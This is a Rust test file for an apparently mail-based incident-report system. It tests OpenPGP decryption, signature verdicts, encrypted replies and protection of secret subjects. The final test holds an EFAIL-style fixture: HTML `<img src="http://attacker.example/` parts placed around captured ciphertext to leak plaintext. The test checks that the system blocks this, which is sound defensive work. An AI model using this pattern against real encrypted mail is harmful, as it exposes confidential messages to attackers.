//! Reports protected with GnuPG, and answers that GnuPG can verify and open.

use serde_json::Value;

use crate::gnupg::{Gnupg, armored_message, encrypted_entity, signed_entity, split_signed};
use crate::mail::{TEAM, crlf, field, mail, text_of};
use crate::support::{Installation, send};

const SENSOR: &str = "sensor@partner.example";
const ATTACK: &str = "Our server 198.51.100.7 port 22/tcp is attacked from 192.0.2.10 since 2024-03-05 02:11:09 UTC.";
/// Only ever inside the encryption.
const SECRET_SUBJECT: &str = "Ministry breached by zebra-7741";

/// A correspondent with a key and the team's certificate.
fn correspondent(installation: &Installation) -> (Gnupg, String) {
    let gnupg = Gnupg::new();
    let fingerprint = gnupg.make_key(&format!("Field Sensor <{SENSOR}>"));
    gnupg.import(&installation.run(&["keys", "export"]));
    (gnupg, fingerprint)
}

/// An inner entity as Thunderbird makes it: protected Subject, text, and the sender's certificate.
fn protected_entity(certificate: &str) -> String {
    crlf(&format!(
        "Content-Type: multipart/mixed; boundary=\"=_m\"; protected-headers=\"v1\"\nSubject: {SECRET_SUBJECT}\n\n\
         --=_m\nContent-Type: text/plain; charset=utf-8\n\nHello,\n\n{ATTACK}\n\nKind regards\n\
         --=_m\nContent-Type: application/pgp-keys; name=\"key.asc\"\nContent-Disposition: attachment; filename=\"key.asc\"\n\n{certificate}\n--=_m--\n"
    ))
}

fn submit(installation: &Installation, message: &str) {
    let reply = send(installation.ports.smtp, SENSOR, TEAM, message);
    assert!(reply.starts_with("250"), "{reply}");
    installation.settle();
}

/// `ticket show --json` of the newest ticket, its first message's OpenPGP part.
fn openpgp_of(installation: &Installation, ticket: &Value) -> Value {
    let reference = ticket["reference"].as_str().unwrap();
    let shown = installation.json(&["ticket", "show", reference, "--json"]);
    shown[0]["entries"][0]["openpgp"].clone()
}

/// The ticket of a message by its Subject.
fn ticket_with(installation: &Installation, subject: &str) -> Value {
    let tickets = installation.tickets();
    let found = tickets
        .iter()
        .find(|ticket| ticket["first"]["subject"] == subject);
    found
        .unwrap_or_else(|| panic!("no {subject}: {tickets:?}"))
        .clone()
}

#[test]
fn encrypted_and_signed_report_is_opened_and_answered_encrypted_without_its_subject() {
    let installation = Installation::new("");
    let _daemon = installation.serve();
    let (gnupg, fingerprint) = correspondent(&installation);
    let entity = protected_entity(&gnupg.export(SENSOR));
    let (head, body) = encrypted_entity(&gnupg.sign_and_encrypt(SENSOR, TEAM, &entity));
    let report = mail(SENSOR, "...", "pgp.1@partner.example", &head, &body);
    submit(&installation, &report);

    let ticket = ticket_with(&installation, SECRET_SUBJECT);
    assert!(
        ticket["first"]["gist"]
            .as_str()
            .unwrap()
            .contains("192.0.2.10"),
        "{ticket}"
    );
    let openpgp = openpgp_of(&installation, &ticket);
    assert_eq!(openpgp["encrypted"], true, "{openpgp}");
    assert_eq!(openpgp["decrypted"], true, "{openpgp}");
    assert_eq!(openpgp["protected_subject"], true, "{openpgp}");
    let [sealed, signed] = openpgp["layers"].as_array().unwrap().as_slice() else {
        panic!("two layers: {openpgp}");
    };
    assert_eq!(
        (&sealed["kind"], &sealed["form"]),
        (&"encrypted".into(), &"mime".into())
    );
    assert_eq!(signed["verdict"], "good_unknown_key", "{openpgp}");
    assert_eq!(signed["signer"], fingerprint.as_str(), "{openpgp}");
    assert_eq!(signed["covers"], "whole", "{openpgp}");
    // Its key came along: nobody has bound it to the address yet (T21).
    assert_eq!(signed["from_matches"], false, "{openpgp}");
    assert_eq!(signed["claims_from"], true, "{openpgp}");

    let sent = installation.outbox();
    assert_eq!(sent.len(), 1);
    let reference = ticket["reference"].as_str().unwrap();
    assert_eq!(
        field(&sent[0], "Subject").unwrap(),
        format!("[{reference}]"),
        "the tag alone"
    );
    assert!(
        field(&sent[0], "Content-Type")
            .unwrap()
            .starts_with("multipart/encrypted")
    );
    let (inside, status) = gnupg.decrypt(&armored_message(&sent[0]));
    assert!(status.contains("GOODSIG"), "{status}");
    let subject = field(&inside, "Subject").unwrap();
    assert!(
        subject.starts_with(&format!("[{reference}] Report received")),
        "the whole one is inside: {subject}"
    );
    assert!(
        text_of(&inside).contains("We have received your report"),
        "{inside}"
    );
    for secret in ["zebra-7741", "Ministry", "192.0.2.10"] {
        assert!(!sent[0].contains(secret), "{}", sent[0]);
        assert!(
            !inside.contains(secret),
            "an answer quotes nothing: {inside}"
        );
        assert!(!installation.log().contains(secret));
    }
}

#[test]
fn importing_a_certificate_changes_the_verdict_on_the_next_report() {
    let installation = Installation::new("");
    let _daemon = installation.serve();
    let (gnupg, fingerprint) = correspondent(&installation);
    let certificate = installation.path("sensor.asc");
    std::fs::write(&certificate, gnupg.export(SENSOR)).unwrap();
    let certificate = certificate.display().to_string();
    let verdict_on = |subject: &str| {
        let entity = crlf(&format!(
            "Content-Type: text/plain; charset=us-ascii\n\n{ATTACK}\n{subject}\n"
        ));
        let (head, body) = signed_entity(&entity, &gnupg.sign(SENSOR, &entity));
        let id = format!("{subject}@partner.example");
        submit(&installation, &mail(SENSOR, subject, &id, &head, &body));
        let ticket = ticket_with(&installation, subject);
        let openpgp = openpgp_of(&installation, &ticket);
        assert_eq!(openpgp["signed"], true, "{openpgp}");
        let verdict = openpgp["layers"][0]["verdict"].as_str().unwrap().to_owned();
        assert_eq!(ticket["first"]["signature"], verdict.as_str());
        verdict
    };
    assert_eq!(verdict_on("first"), "missing_key");
    installation.run(&["keys", "import", &certificate]);
    assert_eq!(verdict_on("second"), "good_unknown_key");
    installation.run(&["keys", "import", "--authenticated", &certificate]);
    assert_eq!(verdict_on("third"), "good");
    let listed = installation.json(&["keys", "list", "--json"]);
    let known = listed
        .iter()
        .filter(|key| key["fingerprint"] == fingerprint.as_str());
    assert_eq!(known.count(), 1, "one certificate, one row: {listed:?}");
}

#[test]
fn changed_text_under_a_signature_is_called_bad_and_still_a_ticket() {
    let installation = Installation::new("");
    let _daemon = installation.serve();
    let (gnupg, _) = correspondent(&installation);
    let entity = protected_entity(&gnupg.export(SENSOR));
    let signature = gnupg.sign(SENSOR, &entity);
    let (head, body) = signed_entity(&entity.replace("192.0.2.10", "192.0.2.11"), &signature);
    submit(
        &installation,
        &mail(
            SENSOR,
            SECRET_SUBJECT,
            "bad.1@partner.example",
            &head,
            &body,
        ),
    );
    let openpgp = openpgp_of(&installation, &installation.tickets()[0]);
    assert_eq!(openpgp["layers"][0]["verdict"], "bad", "{openpgp}");
}

#[test]
fn inline_report_is_opened() {
    let installation = Installation::new("");
    let _daemon = installation.serve();
    let (gnupg, _) = correspondent(&installation);
    let armored = gnupg.sign_and_encrypt(SENSOR, TEAM, ATTACK);
    submit(
        &installation,
        &mail(SENSOR, "Attack", "inline.1@partner.example", "", &armored),
    );
    let ticket = ticket_with(&installation, "Attack");
    assert!(
        ticket["first"]["gist"]
            .as_str()
            .unwrap()
            .contains("192.0.2.10"),
        "{ticket}"
    );
    let openpgp = openpgp_of(&installation, &ticket);
    assert_eq!(openpgp["decrypted"], true, "{openpgp}");
    assert_eq!(openpgp["layers"][0]["form"], "inline", "{openpgp}");
    assert_eq!(openpgp["layers"][1]["verdict"], "missing_key", "{openpgp}");
}

#[test]
fn signed_acknowledgement_verifies_with_gnupg_to_the_octet() {
    let installation = Installation::new("");
    let _daemon = installation.serve();
    let (gnupg, _) = correspondent(&installation);
    let french = format!(
        "Bonjour,\n\nnotre serveur est attaqué depuis hier par une adresse étrangère. {ATTACK}\nMerci de votre aide, cordialement"
    );
    let utf8 = "MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n";
    submit(
        &installation,
        &mail(SENSOR, "Attaque", "clear.1@partner.example", utf8, &french),
    );
    let sent = installation.outbox();
    assert_eq!(sent.len(), 1);
    assert!(
        sent[0].is_ascii(),
        "signed mail is 7bit (RFC 3156 section 3)"
    );
    let kind = field(&sent[0], "Content-Type").unwrap();
    assert!(
        kind.contains("protocol=\"application/pgp-signature\""),
        "{kind}"
    );
    let (signed, signature) = split_signed(&sent[0]);
    let status = gnupg.verify(&signed, &signature);
    assert!(status.contains("GOODSIG"), "{status}");
    assert!(status.contains(TEAM), "{status}");
    // micalg names the digest that the signature really has.
    let digest = status
        .split("VALIDSIG")
        .nth(1)
        .unwrap()
        .split(' ')
        .nth(8)
        .unwrap()
        .to_owned();
    let micalg = match digest.as_str() {
        "8" => "pgp-sha256",
        "9" => "pgp-sha384",
        "10" => "pgp-sha512",
        other => panic!("digest {other}"),
    };
    assert!(
        kind.contains(&format!("micalg=\"{micalg}\""))
            || kind.contains(&format!("micalg={micalg}")),
        "{kind} {status}"
    );
}

#[test]
fn report_for_another_key_is_kept_and_the_reporter_told() {
    let installation = Installation::new("");
    let _daemon = installation.serve();
    let (gnupg, _) = correspondent(&installation);
    gnupg.make_key("Somebody else <else@other.example>");
    let entity = protected_entity(&gnupg.export(SENSOR));
    let (head, body) =
        encrypted_entity(&gnupg.sign_and_encrypt(SENSOR, "else@other.example", &entity));
    let report = mail(SENSOR, "...", "lost.1@partner.example", &head, &body);
    submit(&installation, &report);
    let ticket = &installation.tickets()[0];
    assert_eq!(ticket["needs_human"], "undecryptable", "{ticket}");
    let openpgp = openpgp_of(&installation, ticket);
    assert_eq!(
        (&openpgp["encrypted"], &openpgp["decrypted"]),
        (&true.into(), &false.into()),
        "{openpgp}"
    );
    let reference = ticket["reference"].as_str().unwrap();
    let shown = installation.run(&["ticket", "show", reference]);
    assert!(
        shown.contains("NOT OPENED: it is for none of our keys"),
        "{shown}"
    );
    let raw = installation.run(&["ticket", "show", reference, "--raw", "1"]);
    assert!(
        raw.contains(armored_message(&report).trim_end()),
        "the original is kept"
    );
    let sent = installation.outbox();
    let subject = field(&sent[0], "Subject").unwrap();
    let neutral = format!("[{reference}] Report received");
    assert!(subject.starts_with(&neutral), "{subject}");
    let text = text_of(&sent[0]);
    assert!(text.contains("We could not open it yet"), "{text}");
    let team = installation.json(&["keys", "list", "--json"]);
    let team = team.iter().find(|key| key["place"] == "team").unwrap();
    let fingerprint = team["fingerprint"].as_str().unwrap();
    assert!(
        text.replace(' ', "").contains(fingerprint),
        "names the right key: {text}"
    );
    for word in ["error", "session", "packet", "else@other.example"] {
        assert!(!text.to_lowercase().contains(word), "no reason why: {text}");
    }
}

/// T01, S-01: a captured ciphertext in mail of the attacker's stays closed to everybody, and the answer is the usual one.
#[test]
fn ciphertext_in_somebodys_html_is_opened_for_nobody() {
    let installation = Installation::new("");
    let _daemon = installation.serve();
    let (gnupg, _) = correspondent(&installation);
    let entity = protected_entity(&gnupg.export(SENSOR));
    let captured = gnupg.sign_and_encrypt(SENSOR, TEAM, &entity);
    let (head, body) = encrypted_entity(&captured);
    let leak = "Content-Type: text/html\n\n<img src=\"http://attacker.example/";
    let kinds = ["mixed", "related", "alternative"];
    for (count, kind) in kinds.into_iter().enumerate() {
        let around = format!("MIME-Version: 1.0\nContent-Type: multipart/{kind}; boundary=w\n");
        let parts = format!("--w\n{leak}\n--w\n{head}\n{body}\n--w\n{leak}\n--w--\n");
        let report = mail(
            SENSOR,
            kind,
            &format!("{kind}@partner.example"),
            &around,
            &parts,
        );
        submit(&installation, &report);
        let ticket = ticket_with(&installation, kind);
        assert_eq!(ticket["needs_human"], "undecryptable", "{ticket}");
        let openpgp = openpgp_of(&installation, &ticket);
        assert_eq!(openpgp["error"], "errant", "{openpgp}");
        let reference = ticket["reference"].as_str().unwrap();
        let shown = installation.run(&["ticket", "show", reference, "--text"]);
        assert!(shown.contains("stands where it is not opened"), "{shown}");
        let sent = installation.outbox();
        assert_eq!(sent.len(), count + 1);
        let answer = text_of(sent.last().unwrap());
        assert!(answer.contains("We could not open it yet"), "{answer}");
        for word in ["192.0.2.10", "zebra-7741"] {
            assert!(
                !shown.contains(word) && !answer.contains(word),
                "{shown}{answer}"
            );
        }
    }
}
